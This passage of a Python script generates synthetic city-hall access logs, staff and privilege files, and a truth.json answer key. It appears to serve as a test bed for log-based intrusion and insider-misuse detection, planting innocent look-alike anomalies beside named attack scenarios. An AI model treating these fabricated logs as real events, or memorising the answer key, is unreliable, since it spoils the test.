            [p.account("juki")],
            "A new colleague reads a great many records.",
            "Training beside an old hand; joined_on says so.",
        )
        mon = [d for d in self.workdays(15, n - 4) if self.days[d].weekday() == 0]
        d = r.choice(mon or self.workdays(15, n - 4))
        ds = self.workdays(d, d + 5)
        self.audit = (self.day(ds[0]), self.day(ds[-1]))
        au = Person(
            "s1907",
            "大塚 正",
            "監査委員事務局",
            "juki",
            "10.20.30.15",
            EDGE.format(143),
            0,
            joined="2001-04-01",
        )
        self.people.append(au)
        for x in ds:
            for site, path in (
                ("juki", "/juki/person/{}"),
                ("zei", "/zei/view.aspx?atena={}"),
                ("fukushi", "/welfare/case/{}"),
            ):
                t = self.sign_in(au, x, r.uniform(9, 14) * H, site, None)
                self.views(
                    x,
                    t,
                    au,
                    [
                        (site, "GET", path.format(s))
                        for s in r.sample(self.pop, r.randrange(15, 45))
                    ],
                    (20, 200),
                )
        self.annoy(
            ds,
            ["juki", "zei", "fukushi"],
            ["CITY\\s1907", "s1907"],
            "The auditor's week: a sample across all systems.",
            "Announced; the privileges have the dates.",
        )
        p, tue = (
            self.take("支所", "shisho-yama"),
            [d for d in self.workdays(0) if self.days[d].weekday() == 1],
        )
        for x in tue:
            p.force[x] = False
            self.staff_later.append((p, x, "shisho-kita", "10.30.1.20"))
        self.annoy(
            tue,
            ["shisho-kita"],
            [p.uid],
            "A clerk of the Yamate branch helps at the north branch on Tuesdays.",
            "Every Tuesday, from that branch's counter.",
        )
        d = r.choice(self.workdays(16, n - 3))
        self.renumber["shisho-minami"] = d
        self.silences.append(("shisho-minami", (d - 1) * 86400 + 19 * H, d * 86400 + 8 * H))
        self.annoy(
            [d - 1, d],
            ["shisho-minami"],
            ["shisho-minami"],
            "The south branch moves into the new community centre: a night without lines, then new addresses (10.31.2.x) for all.",
            "The move was in the city's gazette; all its people at once.",
        )
        wed = [d for d in self.workdays(0) if self.days[d].weekday() == 2]
        self.annoy(
            wed,
            ["juki"],
            ["juki"],
            "The counter is open until seven on Wednesdays.",
            "Long-standing extended hours.",
        )
        sun = [d for d in every if self.days[d].weekday() == 6 and self.days[d].day + 7 > 30]
        for x in sun:
            self.extra_open["市民課", x] = 0.35
        self.annoy(
            sun,
            ["juki"],
            ["juki"],
            "A third of the counter works on the last Sunday of the month.",
            "Sunday counter, every month.",
        )
        m, d = r.choice(self.members), r.randrange(14, n)
        self.resident(d, m, 20.3 * H, 9)
        self.annoy(
            [d],
            ["portal"],
            [f"r{m}"],
            "A resident fails nine times and then gets in.",
            "Own phone, own address: a forgotten password.",
        )
        d = r.randrange(14, n)
        self.boost["66.249.79.", d] = 8
        self.annoy(
            [d],
            ["www"],
            ["66.249.79.14"],
            "Googlebot crawls the renewed site.",
            "A welcome crawler on public pages.",
        )
        single = {x["first_day"] for x in self.incidents if x["first_day"] == x["last_day"]}
        d = r.choice(
            [x for x in range(14, n) if self.days[x].weekday() == 6 and self.day(x) not in single]
            or [7 + 6 - self.days[0].weekday()]
        )
        self.breaks.append(("portal", d * 86400 + 1 * H, d * 86400 + 5 * H, "/", 1.0, 503, None))
        self.annoy(
            [d],
            ["portal"],
            ["portal"],
            "The portal answers 503 from one to five on a Sunday.",
            "Planned maintenance, with its page.",
        )
        d = r.choice(self.workdays(14, n - 3))
        for x in range(d, min(n, d + 4)):
            self.boost["portal", x], self.boost["www", x] = r.uniform(1.6, 2.2), r.uniform(1.1, 1.4)
            self.boost["コールセンター", x] = 1.5
        self.annoy(
            list(range(d, min(n, d + 4))),
            ["portal", "www"],
            ["portal"],
            "Portal, public site and call centre have twice the visitors.",
            "The price-relief benefit was announced.",
        )
        d = r.randrange(15, n)
        self.boost["www", d], ps = 2.4, r.sample([q for q in self.of("福祉課")], 6)
        for p in ps:
            sess, t = self.sid(), r.uniform(19, 20) * H
            t = self.sign_in(p, d, t, "fukushi", sess)
            for k in range(r.randrange(4, 11)):
                s = r.choice(p.cases)
                self.views(
                    d,
                    r.uniform(20, 23.5) * H,
                    p,
                    [("fukushi", "GET", f"/welfare/case/{s}")],
                    (9, 99),
                    None,
                    None,
                    sess,
                )
        self.hit(
            d,
            19.4 * H,
            "fukushi",
            ps[0].ip,
            ps[0].uid,
            "GET",
            "/welfare/export/yoshien_meibo.csv",
            200,
            ps[0].ua,
            size=320112,
        )
        self.annoy(
            [d],
            ["fukushi", "www"],
            [p.uid for p in ps],
            "Six case workers at work late in the evening, with an export of those who need help to flee.",
            "A typhoon or torrential rain: the public site's hazard pages surge, shelters are opened.",
        )
        p, ds, s = self.take("税務課"), self.workdays(0)[::3], r.randrange(1016000, 1018000)
        for x in ds:
            p.force[x] = True
            self.views(
                x,
                r.uniform(9.2, 14) * H,
                p,
                [
                    y
                    for k in range(s, s + 25)
                    for y in (
                        ("zei", "GET", f"/zei/assess/{k}"),
                        ("zei", "POST", f"/zei/assess/{k}"),
                    )
                ],
                (10, 60),
            )
            s += 25
        self.annoy(
            ds,
            ["zei"],
            [p.account("zei")],
            "An assessor works through consecutive numbers.",
            "That is how the assessment is done, a POST behind each; all along.",
        )
        p, ds = self.take("福祉課"), self.workdays(14)
        s = p.cases[0]
        for x in ds:
            p.force[x] = True
            for _ in range(r.choice((1, 2, 2, 4))):
                self.views(
                    x,
                    r.uniform(9, 17) * H,
                    p,
                    [
                        ("fukushi", "GET", f"/welfare/case/{s}"),
                        ("fukushi", "POST", f"/welfare/case/{s}/note"),
                    ],
                    (60, 400),
                )
        self.annoy(
            ds,
            ["fukushi"],
            [p.uid],
            "A case worker opens one household's case several times a day, for weeks.",
            "A family in crisis; each view has its note, and the case is his.",
        )
        if n > 50:
            p = self.take("税務課")
            p.absent_until = 46
            self.staff_later += [(p, x, "", "") for x in self.workdays(0, 4)]
            d = self.workdays(47)[0]
            p.force[d] = True
            self.annoy(
                [d],
                ["zei", "juki"],
                [p.account("zei")],
                "Back after six weeks of sick leave.",
                "Own desk, own work, a normal amount.",
            )
        sat = [d for d in every if self.days[d].weekday() == 5 and self.days[d] not in HOLIDAYS]
        self.annoy(
            sat,
            ["shisho-eki"],
            ["shisho-eki"],
            "The station branch works on Saturdays and until seven.",
            "Those are its opening hours, half its people each Saturday.",
        )
        d, ps = r.choice(self.workdays(14)), [q for q in self.people if q.dept == "税務課"]
        self.ua_change = (d, "税務課", EDGE.format(145))
        self.annoy(
            [d],
            ["zei", "juki"],
            [q.account("zei") for q in ps[:3]] + ["zei"],
            "The whole tax office has new PCs with another browser version.",
            "Replacement of a department's machines on one day; addresses stay.",
        )
        ds = [d for d in self.workdays(0) if self.days[d].day <= 10]
        for x in ds:
            self.boost["保育課", x] = r.uniform(1.4, 2.0)
            for q in [q for q in self.people if q.dept == "保育課"][:3]:
                for c in range(6):
                    self.views(
                        x,
                        r.uniform(13, 17) * H,
                        q,
                        [("fukushi", "GET", f"/nursery/list/c{c}")],
                        (9, 60),
                    )
        self.annoy(
            ds,
            ["fukushi"],
            ["fukushi"],
            "The nursery section reads lists and children half again as much.",
            "Selection for the month, first to tenth.",
        )
        d, p = r.choice(self.workdays(14)), self.take("市民課")
        p.force[d] = True
        self.views(
            d,
            13.6 * H,
            p,
            [
                ("juki", "POST", "/juki/search"),
                ("juki", "GET", f"/juki/person/{self.mayor}"),
                ("juki", "POST", f"/juki/certificate/{self.mayor}"),
            ],
            (20, 70),
        )
        self.annoy(
            [d],
            ["juki"],
            [p.account("juki")],
            "The mayor's record is opened once.",
            "A certificate was issued right behind it: he asked for it.",
        )
        d = r.choice(
            [x for x in self.workdays(14) if self.days[x].weekday() == 0] or self.workdays(14)
        )
        ps = r.sample(
            [
                q
                for q in self.people
                if q.dept in ("市民課", "福祉課", "保育課")
                and not q.part
                and q.uid not in self.busy
            ],
            14,
        )
        for q in ps:
            site, t = ("juki" if q.dept == "市民課" else "fukushi"), r.uniform(8.3, 8.7) * H
            for _ in range(r.choice((1, 2, 2, 3, 4))):
                t = self.hit(
                    d,
                    t + r.uniform(5, 30),
                    site,
                    q.ip,
                    q.account(site),
                    "POST",
                    "/auth/login",
                    401,
                    q.ua,
                )
            self.hit(d, t + 30, site, q.ip, q.account(site), "POST", "/auth/login", 302, q.ua)
        self.annoy(
            [d],
            ["juki", "fukushi"],
            [q.account("juki" if q.dept == "市民課" else "fukushi") for q in ps],
            "Fourteen people fail at the morning's log-in.",
            "The half-yearly password change; each at his own desk, each gets in.",
        )
        d = r.choice(self.workdays(14))
        self.breaks.append(
            ("fukushi", d * 86400 + 19 * H, d * 86400 + 19.4 * H, "/", 1.0, 502, None)
        )
        self.annoy(
            [d],
            ["fukushi"],
            ["fukushi"],
            "502 for twenty minutes at seven in the evening.",
            "A deploy, after hours, announced.",
        )
        gaps = [d for d in self.workdays(0) if r.random() < 0.6]
        for x in gaps:
            a = r.uniform(8, 16) * H
            self.silences.append(
                ("shisho-shima", x * 86400 + a, x * 86400 + a + r.uniform(1500, 4500))
            )
        self.annoy(
            gaps,
            ["shisho-shima"],
            ["shisho-shima"],
            "The island branch has holes of half an hour to an hour and a quarter.",
            "Its line falls out on most days, and always has.",
        )
        d, t = r.choice(self.workdays(14)), 14.0 * H
        for k in range(18):
            m, sess = r.choice(self.members), self.sid()
            t = self.hit(
                d,
                t + r.uniform(60, 400),
                "portal",
                "153.156.77.12",
                f"r{m}",
                "POST",
                "/login",
                401 if r.random() < 0.3 else 302,
                CHROME.format(142),
                sess,
            )
            self.hit(
                d,
                t + 15,
                "portal",
                "153.156.77.12",
                f"r{m}",
                "GET",
                f"/my/apply/{m}",
                200,
                CHROME.format(142),
                sess,
            )
        self.annoy(
            [d],
            ["portal"],
            ["153.156.77.12"],
            "Eighteen residents sign in from one address with one browser in an afternoon, some after typos.",
            "The library's public PCs on the day of the course 'the portal for seniors'.",
        )
        d, ps = r.choice(self.workdays(14)), r.sample(self.of("福祉課"), 5)
        for q in ps:
            q.force[d] = True
            sess = self.sid()
            t = self.sign_in(q, d, 9.1 * H, "fukushi", sess, 0, f"10.99.0.{r.randrange(10, 60)}")
            self.views(
                d,
                t,
                q,
                [("fukushi", "GET", f"/welfare/case/{s}") for s in r.sample(q.cases, 6)],
                (100, 900),
                f"10.99.0.{r.randrange(10, 60)}",
                None,
                sess,
            )
        self.annoy(
            [d],
            ["fukushi"],
            [q.uid for q in ps],
            "Five case workers by VPN on one morning.",
            "Telework day; their own cases.",
        )

    # ---- all together ------------------------------------------------------------------------------------------------------------------
    def build(self) -> None:
        """Plans the stories, then lives the days."""
        r = self.r
        self.staff_later: list[tuple[Person, int, str, str]] = []
        self.ua_change, self.audit, self.present_today = (self.n, "", ""), ("", ""), {}
        self.in_charge = [
            q
            for d in ("税務課", "福祉課", "保育課")
            for q in [p for p in self.people if p.dept == d and not p.part][1:3]
        ]
        self.busy.update(q.uid for q in self.in_charge)
        easy: list[Callable[[], None]] = [
            self.i_leaver_haul,
            self.i_branch_silent,
            self.i_stuffing,
            self.i_idor,
            self.i_sqli,
            self.i_night_welfare,
            self.i_portal_errors,
            self.i_webshell,
            self.i_console_force,
        ]
        medium: list[Callable[[], None]] = [
            self.i_session,
            self.i_place,
            self.i_other_branch,
            self.i_desk_guess,
            self.i_watched,
            self.i_after_leaving,
            self.i_zei_gap,
            self.i_mixup,
            self.i_exposed,
            self.i_dormant,
        ]
        hard: list[Callable[[], None]] = [
            self.i_slow_guess,
            self.i_ex_spouse,
            self.i_colleagues,
            self.i_receipts,
            self.i_call_take,
            self.i_false_certs,
            self.i_half_days,
        ]
        if self.n > 40:
            plan = [
                self.i_sequence,
                *r.sample(easy, 3),
                self.i_nursery_collect,
                self.i_weekly_export,
                *r.sample(medium, 2),
                *r.sample(hard + [self.i_second_export, self.i_part_timer], 4),
            ]
        else:
            plan = [
                self.i_lone_probe,
                *r.sample(easy + [self.i_sequence], 5),
                *r.sample(medium + [self.i_nursery_collect, self.i_weekly_export], 6),
                *r.sample(
                    hard
                    + [
                        self.i_borrowed,
                        self.i_second_export,
                        self.i_partial_errors,
                        self.i_part_timer,
                    ],
                    6,
                ),
            ]
        for f in plan:
            f()
        self.incidents.sort(key=lambda x: (x["first_day"], x["what"]))
        for k, x in enumerate(self.incidents):
            x["id"] = f"i{k + 1:02d}"
        self.annoyances_all()
        for d in range(self.n):
            if d == self.ua_change[0]:
                for p in (q for q in self.people if q.dept == self.ua_change[1]):
                    p.ua = self.ua_change[2]
            self.present_today = {p.uid: True for p in self.people if p.rate and self.present(p, d)}
            for p in (q for q in self.people if q.uid in self.present_today):
                self.staff_day(p, d)
            for p, _, where, ip in (x for x in self.staff_later if x[1] == d):
                self.staff_day(p, d, where or None, ip or None)
            self.public_day(d)
            self.batch_day(d)

    # ---- files -----------------------------------------------------------------------------------------------------------------------------
    def settle(self) -> list[Event]:
        """Applies silences and errors; sorts."""
        out, end = [], self.n * 86400
        for e in sorted(self.ev, key=lambda e: e[0]):
            if not 0 <= e[0] < end or any(s == e[1] and a <= e[0] < b for s, a, b in self.silences):
                continue
            for site, a, b, pre, prob, status, inc in self.breaks:
                head, _, tail = pre.partition("*")
                if (
                    site == e[1]
                    and a <= e[0] < b
                    and e[5].startswith(head)
                    and e[5].endswith(tail)
                    and e[6] in (200, 302)
                    and e[5] != "/healthz"
                    and self.r.random() < prob
                ):
                    e = (*e[:6], status, 760, e[8] * 3, e[9], e[10], e[11])
                    if inc is not None:
                        inc["lines"] += 1
                    break
            out.append(e)
        return out

    def write_logs(self, out: Path) -> None:
        """Each server in its own way."""
        files: dict[str, list[str]] = {}
        day0, lb, vhost = (
            datetime(self.days[0].year, self.days[0].month, self.days[0].day),
            ("10.10.0.11", "10.10.0.12"),
            ("shisho-eki", "shisho-minami"),
        )
        for n, (t, site, ip, user, method, path, status, size, ms, ref, ua, sess) in enumerate(
            self.settle()
        ):
            at = day0 + timedelta(seconds=t)
            stamp, req = (
                at.strftime("%d/%b/%Y:%H:%M:%S +0900"),
                path
                if method == "RAW"
                else f"{method} {path} HTTP/{'2.0' if site == 'portal' else '1.1'}",
            )
            if site in ("juki", "zei"):
                utc, (stem, _, q) = at - timedelta(hours=9), path.partition("?")
                name = f"{site}/u_ex{utc:%y%m%d}.log"
                line = (
                    f"{utc:%Y-%m-%d %H:%M:%S} 10.10.{1 if site == 'juki' else 2}.10 {method} {stem} {q or '-'} 443 {user or '-'} {ip} {ua.replace(' ', '+')} {ref or '-'} "
                    f"{status} 0 0 {size} {int(ms)}"
                )
            elif site == "portal":
                name = f"portal/portal_access.json-{at:%Y%m%d}.gz"
                line = json.dumps(
                    {
                        "time": at.strftime("%Y-%m-%dT%H:%M:%S+09:00"),
                        "host": "portal." + DOMAIN,
                        "remote_addr": lb[n % 2] if ip[:3] != "10." else ip,
                        "xff": ip if ip[:3] != "10." else "",
                        "user": user or "",
                        "sid": sess or "",
                        "request": req,
                        "status": status,
                        "bytes": size,
                        "rt": round(ms / 1000, 3),
                        "referer": ref or "",
                        "ua": ua,
                    },
                    ensure_ascii=False,
                    separators=(",", ":"),
                )
            elif site == "fukushi":
                name, line = (
                    f"fukushi/ssl_access_log.{at:%Y%m%d}",
                    f'{ip} - {user or "-"} [{stamp}] "{req}" {status} {size or "-"} "{ref or "-"}" "{ua}" {int(ms * 1000)} "{sess or "-"}"',
                )
            elif site == "www":
                name, line = (
                    f"www/access_log-{at:%Y%m%d}.gz",
                    f'{ip} - - [{stamp}] "{req}" {status} {size or "-"} "{ref or "-"}" "{ua}"',
                )
            elif site in vhost:
                name = f"shisho/{site[7:]}/access-{at:%Y%m%d}.log"
                line = f'{site[7:]}.shisho.{DOMAIN}:443 {ip} - {user or "-"} [{stamp}] "{req}" {status} {size or "-"} "{ref or "-"}" "{ua}"'
            else:
                name, line = (
                    f"shisho/{site[7:]}/access-{at:%Y%m%d}.log.gz",
                    f'{ip} - {user or "-"} [{stamp}] "{req}" {status} {size or "-"} "{ref or "-"}" "{ua}"',
                )
            files.setdefault(name, []).append(line)
        for name, lines in sorted(files.items()):
            if "/u_ex" in name:
                lines[:0] = [
                    "#Software: Microsoft Internet Information Services 10.0",
                    "#Version: 1.0",
                    f"#Date: {lines[0][:19]}",
                    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken",
                ]
            data, path = ("\n".join(lines) + "\n").encode(), out / "logs" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(gzip.compress(data, 6, mtime=0) if name.endswith(".gz") else data)

    def write_context(self, out: Path) -> None:
        """Personnel, privileges, watched records, the branches' roster."""
        rows = ["user,person,name,department,site,manager,type,company,joined_on,left_on"]
        for p in self.people:
            for acc in [p.uid] + (
                [f"CITY\\{p.uid}"] if self.key(p) not in ("支所", "コールセンター") else []
            ):
                rows.append(
                    f"{acc},{p.uid},{p.name},{p.dept},{p.home},{p.manager},{p.type},{p.company},{p.joined},{p.left}"
                )
        rows += [
            "CITY\\v-hosoda,v-hosoda,細田 (保守),保守委託,juki,,contractor,東湾システム株式会社,2021-04-01,",
            "CITY\\v-kitano,v-kitano,北野 (保守),保守委託,juki,,contractor,東湾システム株式会社,2023-04-01,",
            "CITY\\n-shukuchoku,n-shukuchoku,宿直室,宿直委託,juki,,contractor,みさき警備保障,,",
        ]
        (out / "people.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
        pr = ["user,department,resource,from,to"]
        grants = {
            "市民課": ("juki-person", "juki-household", "juki-certificate", "juki-move"),
            "税務課": (
                "zei-view",
                "zei-assess",
                "zei-certificate",
                "zei-note",
                "zei-arrears",
                "zei-export",
                "juki-person",
            ),
            "福祉課": (
                "welfare-case",
                "welfare-doc",
                "welfare-note",
                "welfare-export",
                "zei-view",
                "juki-person",
                "juki-household",
            ),
            "保育課": (
                "nursery-child",
                "nursery-score",
                "nursery-list",
                "nursery-export",
                "zei-view",
            ),
            "コールセンター": ("console-inquiry", "console-note"),
            "宿直委託": ("juki-person", "juki-note"),
        }
        pr += [f",{d},{x},," for d, xs in grants.items() for x in xs]
        pr += [
            f",{b},{x},,"
            for b in BRANCHES.values()
            for x in ("cert-person", "cert-seal", "cert-issue")
        ]
        pr += [
            f"CITY\\s1907,,{x},{self.audit[0]},{self.audit[1]}" for x in ("juki-person", "zei-view")
        ] + [f"s1907,,welfare-case,{self.audit[0]},{self.audit[1]}"]
        (out / "privileges.csv").write_text("\n".join(pr) + "\n", encoding="utf-8")
        w = (
            ["subject,kind,user,reason"]
            + [f"{s},vip,,{'市長' if s == self.mayor else '市議会議員'}" for s in self.vips]
            + [f"{s},vip,,支援措置対象者" for s in self.dv]
            + [f"{s},staff,,職員" for s in self.colleagues]
        )
        (out / "watch.csv").write_text("\n".join(w) + "\n", encoding="utf-8")
        (out / "branches.csv").write_text(
            "branch,opened_on,name\n"
            + "".join(f"{b},2006-04-01,{v}\n" for b, v in BRANCHES.items()),
            encoding="utf-8",
        )
        (out / "mimamori.yaml").write_text(
            YAML.replace("#RES#\n", resources_yaml()), encoding="utf-8"
        )

    def write_truth(self, out: Path) -> None:
        """What happened."""
        about = (
            "Misaki City, 110,000 people: a city hall with counters (residents' register and tax on Windows servers, welfare and nursery on Apache), a residents' portal with a call centre's console, "
            "a public web site, and five branch offices with small servers of their own; about 110 staff and part-timers, a call-centre company, two vendors, a night desk."
        )
        x = {
            "seed": self.seed,
            "days": [d.isoformat() for d in self.days],
            "about": about,
            "incidents": self.incidents,
            "annoyances": self.annoyances,
        }
        (out / "truth.json").write_text(
            json.dumps(x, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
        )


#: personal data: id, kind, path, level, categories; * = POST only
RESOURCES: dict[str, str] = {
    "juki": """juki-person record /juki/person/{subject} 3 name,address,birth; juki-household record /juki/household/{subject} 3 name,address,family;
        juki-certificate record* /juki/certificate/{subject} 3 name,address; juki-move record* /juki/move/{subject} 3 name,address;
        juki-note record* /juki/note/{subject} 3 name; juki-support list /juki/support/list 3 name,address; juki-admin admin /admin/*""",
    "zei": """zei-view record /zei/view.aspx?atena={subject} 3 name,address,income; zei-assess record /zei/assess/{subject} 3 name,income;
        zei-certificate record* /zei/certificate/{subject} 3 name,income; zei-note record* /zei/note/{subject} 3 name;
        zei-arrears list /zei/arrears 3 name,arrears; zei-export export /zei/export/* 3 name,address,income; zei-admin admin /admin/*""",
    "fukushi": """welfare-case record /welfare/case/{subject} 3 name,health,income; welfare-doc record /welfare/case/{subject}/doc 3 name,health,income;
        welfare-note record* /welfare/case/{subject}/note 3 name; welfare-export export /welfare/export/* 3 name,account; nursery-child record /nursery/child/{subject} 3 name,family;
        nursery-score record* /nursery/child/{subject}/score 3 name; nursery-list list /nursery/list/* 2 name; nursery-export export /nursery/export/* 3 name,family""",
    "portal": """my-certificates record /my/certificates/{subject} 3 name,address; my-tax record /my/tax/{subject} 3 name,income; my-nursery record /my/nursery/{subject} 3 name,family;
        my-notice record /my/notice/{subject} 2 name; my-logout logout /logout; nursery-status record /nursery/status?receipt={subject} 1 status;
        console-inquiry record /console/inquiry/{subject} 3 name,phone; console-note record* /console/inquiry/{subject}/note 3 name; portal-admin admin /admin/*""",
    "shisho": """cert-person record /cert/person/{subject} 3 name,address,birth; cert-seal record /cert/seal/{subject} 3 name,seal; cert-issue record* /cert/issue/{subject} 3 name,address""",
}


def resources_yaml() -> str:
    """The resources as the settings have them, each system's log-in and log-out first."""
    out = ["resources:"]
    for name, text in RESOURCES.items():
        out += [
            f"  {name}:",
            f"    - {{id: {name}-login, kind: login, path: /auth/login, methods: [POST], success: [302], failure: [401]}}",
            f"    - {{id: {name}-logout, kind: logout, path: /auth/logout}}",
        ]
        if name == "portal":
            out.append(
                "    - {id: my-login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}"
            )
        for item in text.split(";"):
            rid, kind, path, *more = item.split()
            post, level = (
                ", methods: [POST]" if kind[-1] == "*" else "",
                f", level: {more[0]}, categories: [{more[1].replace(',', ', ')}]" if more else "",
            )
            out.append(
                f'    - {{id: {rid}, kind: {kind.rstrip("*")}, path: "{path}"{post}{level}}}'
            )
    return "\n".join(out) + "\n"


YAML = r"""# みさき市 情報政策課
timezone: Asia/Tokyo
locale: ja
business_hours: {days: [mon, tue, wed, thu, fri], from: "08:00", to: "19:00", holidays: JP}
context: {people: people.csv, privileges: privileges.csv, watch: watch.csv}
user_types:
  - {pattern: '^(CITY\\)?svc-', type: system}
  - {pattern: '^(CITY\\)?[cvn]-', type: contractor}
  - {pattern: '^(CITY\\)?[sk][0-9]+$', type: staff}
  - {pattern: '^r[0-9]{7}$', type: customer}
#RES#
sites:
  - {id: juki, group: main, domains: [juki.city-misaki.example], logs: ["juki/u_ex*.log"], format: auto, resources: juki, hours: business}
  - {id: zei, group: main, domains: [zei.city-misaki.example], logs: ["zei/u_ex*.log"], format: auto, resources: zei, hours: business}
  - {id: fukushi, group: main, domains: [fukushi.city-misaki.example], logs: ["fukushi/ssl_access_log.*"], resources: fukushi, hours: business,
     format: '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %D "%{FKSESSID}C"'}
  - {id: portal, group: main, domains: [portal.city-misaki.example], logs: ["portal/portal_access.json-*"], resources: portal, hours: always, trusted_proxies: [10.10.0.0/24],
     format: '{"time":"$time_iso8601","host":"$host","remote_addr":"$remote_addr","xff":"$http_x_forwarded_for","user":"$remote_user","sid":"$cookie_misaki_sid","request":"$request","status":$status,"bytes":$body_bytes_sent,"rt":$request_time,"referer":"$http_referer","ua":"$http_user_agent"}'}
  - {id: www, group: main, domains: [www.city-misaki.example], logs: ["www/access_log-*"], format: combined, hours: always}
  - {id: "shisho-{branch}", group: shisho, domains: ["{branch}.shisho.city-misaki.example"], logs: ["shisho/{branch}/access-*"], roster: branches.csv, format: auto, resources: shisho, hours: business}
"""


def main() -> None:
    """Reads the arguments, draws, writes."""
    a = argparse.ArgumentParser(description=__doc__)
    for name, kind, default in (
        ("--seed", int, 7),
        ("--days", int, 35),
        ("--out", Path, Path("out")),
    ):
        a.add_argument(name, type=kind, default=default)
    x = a.parse_args()
    x.out.mkdir(parents=True, exist_ok=True)
    city = City(x.seed, x.days)
    city.build()
    for write in (city.write_logs, city.write_context, city.write_truth):
        write(x.out)


if __name__ == "__main__":
    main()
